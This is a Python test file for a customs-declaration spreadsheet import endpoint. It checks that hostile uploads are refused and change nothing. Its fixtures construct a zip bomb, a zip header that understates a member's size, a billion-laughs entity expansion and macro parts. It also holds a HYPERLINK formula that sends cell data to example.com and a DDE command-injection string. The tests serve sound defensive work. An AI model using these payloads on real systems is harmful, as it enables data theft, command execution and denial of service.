"""导入 (F-33): malformed and hostile files are refused with a clear zh/en error, and change nothing."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import AsyncIterator

import pytest
from declaration_harness import Service, auth, running_service
from import_workbooks import GOODS_PART, HEAD_PART, edited, filled, rezipped, upload, valid_documents
from service_http import TEST_AUTH

from guanwu.declaration.config import DeclarationSettings, ImportLimits


async def _refused(service: Service, content: bytes, status: int, code: str, **upload_args: str) -> dict:  # type: ignore[type-arg]
    response = await upload(service.client, content, auth(), **upload_args)
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["code"] == code
    assert error["message_zh"] and error["message_en"]
    assert await service.stored() == 0
    assert await service.runtime.store.collection("declaration_imports").count({}) == 0
    await service.runtime.relay.drain()  # type: ignore[union-attr]
    assert service.drafted() == []
    return error  # type: ignore[no-any-return]


@pytest.fixture
def workbook() -> bytes:
    return filled(valid_documents())


async def test_a_file_that_is_not_a_zip_is_refused(service: Service) -> None:
    await _refused(
        service, "单据序号,进出口标志\n1,E\n".encode(), 422, "declaration.import_not_xlsx", name="a.csv"
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000  # an .xls, or an encrypted .xlsx
    error = await _refused(service, ole, 422, "declaration.import_not_xlsx", name="a.xls")
    assert ".xls" in error["message_zh"]


async def test_a_zip_that_is_no_workbook_is_refused(service: Service) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    await _refused(service, buffer.getvalue(), 422, "declaration.import_not_xlsx")


async def test_a_zip_bomb_is_refused_from_its_directory(service: Service, workbook: bytes) -> None:
    # 100 MB of one byte repeated deflates to ~100 KB: a ratio of ~1,000 to 1
    bomb = rezipped(workbook, replace={GOODS_PART: b"<" * (100 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    error = await _refused(service, bomb, 422, "declaration.import_zip_bomb")
    assert GOODS_PART in error["message_en"]


async def test_a_zip_declaring_too_much_in_all_is_refused() -> None:
    small = ImportLimits(max_uncompressed_bytes=100_000)  # the filled workbook declares ~120 KB
    async with running_service(settings=DeclarationSettings(auth=TEST_AUTH, imports=small)) as service:
        await _refused(service, filled(valid_documents()), 422, "declaration.import_zip_bomb")


async def test_too_many_zip_members_are_refused(service: Service, workbook: bytes) -> None:
    many = rezipped(workbook, add={f"xl/media/image{i}.png": b"x" for i in range(1001)})
    await _refused(service, many, 422, "declaration.import_zip_bomb")


async def test_a_formula_is_refused_not_evaluated(service: Service, workbook: bytes) -> None:
    def formula(sheet: object) -> None:
        sheet["E3"] = '=HYPERLINK("http://example.com/?"&A1,"x")'  # type: ignore[index]

    error = await _refused(service, edited(workbook, "表体", formula), 422, "declaration.import_formula")
    assert error["sheet"] == "表体" and error["cell"] == "E3"


async def test_text_starting_with_an_equals_sign_is_refused_as_a_formula(
    service: Service, workbook: bytes
) -> None:
    def text(sheet: object) -> None:
        cell = sheet["D2"]  # type: ignore[index]
        cell.value = "=cmd|' /C calc'!A0"
        cell.data_type = "s"

    error = await _refused(service, edited(workbook, "表头", text), 422, "declaration.import_formula")
    assert error["cell"] == "D2"


def _sheet_with_last_row(dimension: bool) -> bytes:
    ref = '<dimension ref="A1:B1048576"/>' if dimension else ""
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{ref}<sheetData>"
        '<row r="1"><c r="A1" t="inlineStr"><is><t>单据序号（No）</t></is></c></row>'
        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>1</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


async def test_a_sheet_of_1048576_rows_is_refused_by_its_dimension(service: Service, workbook: bytes) -> None:
    content = rezipped(workbook, replace={HEAD_PART: _sheet_with_last_row(dimension=True)})
    error = await _refused(service, content, 422, "declaration.import_too_many_rows")
    assert error["sheet"] == "表头"


async def test_a_sheet_of_1048576_rows_without_a_dimension_is_refused_while_streaming(
    service: Service, workbook: bytes
) -> None:
    content = rezipped(workbook, replace={GOODS_PART: _sheet_with_last_row(dimension=False)})
    error = await _refused(service, content, 422, "declaration.import_too_many_rows")
    assert error["sheet"] == "表体"


async def test_a_sheet_whose_dimension_understates_it_is_read_whole(
    service: Service, workbook: bytes
) -> None:
    """A dimension of A1:A2 must not hide the rows below it: the file is read to its end (here: refused)."""
    sheet = _sheet_with_last_row(dimension=False).replace(
        b"<sheetData>", b'<dimension ref="A1:A2"/><sheetData>'
    )
    await _refused(
        service, rezipped(workbook, replace={GOODS_PART: sheet}), 422, "declaration.import_too_many_rows"
    )


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA"),
        ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        ("xl/activeX/activeX1.bin", b"\x00"),
    ],
)
async def test_macros_are_refused(service: Service, workbook: bytes, member: str, content: bytes) -> None:
    await _refused(service, rezipped(workbook, add={member: content}), 422, "declaration.import_macros")


async def test_a_macro_enabled_workbook_is_refused(service: Service, workbook: bytes) -> None:
    types = zipfile.ZipFile(io.BytesIO(workbook)).read("[Content_Types].xml")
    xlsm = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    assert xlsm != types
    await _refused(
        service, rezipped(workbook, replace={"[Content_Types].xml": xlsm}), 422, "declaration.import_macros"
    )


@pytest.fixture
async def small_service() -> AsyncIterator[Service]:
    limits = ImportLimits(max_bytes=10_000)
    async with running_service(settings=DeclarationSettings(auth=TEST_AUTH, imports=limits)) as service:
        yield service


async def test_a_file_over_the_size_limit_is_refused_with_413(
    small_service: Service, workbook: bytes
) -> None:
    assert len(workbook) > 10_000
    error = await _refused(small_service, workbook, 413, "declaration.import_too_large")
    assert error["max_bytes"] == 10_000


async def test_an_entity_expansion_is_refused(service: Service, workbook: bytes) -> None:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    await _refused(
        service, rezipped(workbook, replace={HEAD_PART: laughs}), 422, "declaration.import_not_xlsx"
    )


async def test_a_body_without_a_file_part_is_refused(service: Service) -> None:
    response = await service.client.post(
        "/api/declaration/imports", data={"ie_flag": "E"}, files={"other": ("x", b"y")}, headers=auth()
    )
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "declaration.import_malformed_upload"
    assert await service.stored() == 0


def _understating(content: bytes, member: str, declared: int) -> bytes:
    """The zip with `member`'s uncompressed size declared as `declared` in its local header and in the central
    directory: what a bomb would do to pass a check of the directory."""
    data = bytearray(content)
    archive = zipfile.ZipFile(io.BytesIO(content))
    info = archive.getinfo(member)
    local = info.header_offset
    struct.pack_into("<I", data, local + 22, declared)
    central = -1
    start = data.find(b"PK\x05\x06")
    directory = struct.unpack_from("<I", data, start + 16)[0]
    position = directory
    while position < start:
        name_length, extra, comment = struct.unpack_from("<HHH", data, position + 28)
        if bytes(data[position + 46 : position + 46 + name_length]).decode() == member:
            struct.pack_into("<I", data, position + 24, declared)
            central = position
        position += 46 + name_length + extra + comment
    assert central >= 0
    return bytes(data)


async def test_a_member_inflating_past_its_declared_size_is_refused(
    service: Service, workbook: bytes
) -> None:
    """The directory says 1 KB; the member inflates to far more: zipfile stops at the declared size and the
    CRC fails, so what the directory check admitted bounds what is read."""
    lying = _understating(workbook, GOODS_PART, 1024)
    assert zipfile.ZipFile(io.BytesIO(lying)).getinfo(GOODS_PART).file_size == 1024
    await _refused(service, lying, 422, "declaration.import_not_xlsx")


async def test_more_declarations_than_the_limit_are_refused(workbook: bytes) -> None:
    limits = ImportLimits(max_declarations=2)
    async with running_service(settings=DeclarationSettings(auth=TEST_AUTH, imports=limits)) as service:
        error = await _refused(service, workbook, 422, "declaration.import_too_many_declarations")
        assert error["max_declarations"] == 2


async def test_a_workbook_without_the_goods_sheet_is_refused(service: Service, workbook: bytes) -> None:
    def renamed(sheet: object) -> None:
        sheet.title = "商品"  # type: ignore[attr-defined]

    error = await _refused(
        service, edited(workbook, "表体", renamed), 422, "declaration.import_missing_sheet"
    )
    assert error["sheet"] == "表体"


async def test_a_workbook_without_rows_is_refused(service: Service) -> None:
    await _refused(service, filled([]), 422, "declaration.import_empty")
